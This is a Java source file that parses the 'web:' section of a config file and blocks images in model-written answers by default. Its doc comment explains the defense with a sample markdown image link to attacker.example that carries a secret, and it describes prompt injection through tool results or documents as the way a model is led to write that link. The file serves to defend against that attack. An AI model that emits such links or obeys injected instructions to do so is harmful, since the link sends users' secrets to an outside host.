package dev.baton.server.web;

import com.fasterxml.jackson.databind.JsonNode;
import dev.baton.core.config.ConfigSection;
import dev.baton.runtime.config.ConfigException;
import java.util.Locale;

/**
 * The {@code web:} section of baton.yaml.
 *
 * <pre>{@code
 * web:
 *   images: block   # default; "allow" shows images that answers link to (https only)
 * }</pre>
 *
 * <p>Images are blocked by default because an answer is text a model wrote, and a model can be talked (by a prompt
 * injected into a tool result or a document) into writing {@code ![](https://attacker.example/?q=<secret>)}: a
 * browser that loads that image has sent the secret away without anyone clicking anything.
 *
 * @param showImages true when answers' images are loaded (the Content-Security-Policy then allows https images)
 */
public record WebPageSettings(boolean showImages) {

    public static final WebPageSettings DEFAULTS = new WebPageSettings(false);

    /** @param section the {@code web:} section, missing or null when absent */
    public static WebPageSettings parse(JsonNode section) {
        if (section == null || section.isMissingNode() || section.isNull()) return DEFAULTS;
        if (!section.isObject()) throw new ConfigException("web must be a mapping");
        ConfigSection.of(section, "web", "images");
        JsonNode images = section.path("images");
        if (images.isMissingNode() || images.isNull()) return DEFAULTS;
        return switch (images.asText().strip().toLowerCase(Locale.ROOT)) {
            case "block" -> new WebPageSettings(false);
            case "allow" -> new WebPageSettings(true);
            default ->
                throw new ConfigException("web.images must be 'block' or 'allow', got '" + images.asText() + "'");
        };
    }
}
